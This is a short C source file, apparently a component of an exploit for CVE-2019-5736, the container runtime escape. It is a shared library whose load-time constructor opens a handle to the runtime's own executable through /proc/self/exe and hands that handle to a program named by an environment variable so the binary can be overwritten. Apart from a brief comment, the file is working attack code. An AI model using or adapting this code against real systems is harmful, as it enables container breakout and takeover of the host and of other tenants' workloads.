/* The mechanism of CVE-2019-5736: a library that a runtime loads because its program was
 * started anew where the attacker chose the environment. It takes hold of the runtime's
 * executable, becomes another program, and goes on from there. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void overwrite(void) {
    char number[16];
    snprintf(number, sizeof number, "%d", open("/proc/self/exe", O_PATH));
    execl(getenv("PROBE"), "probe", getenv("ACT"), number, (char *)0);
    _exit(3);
}
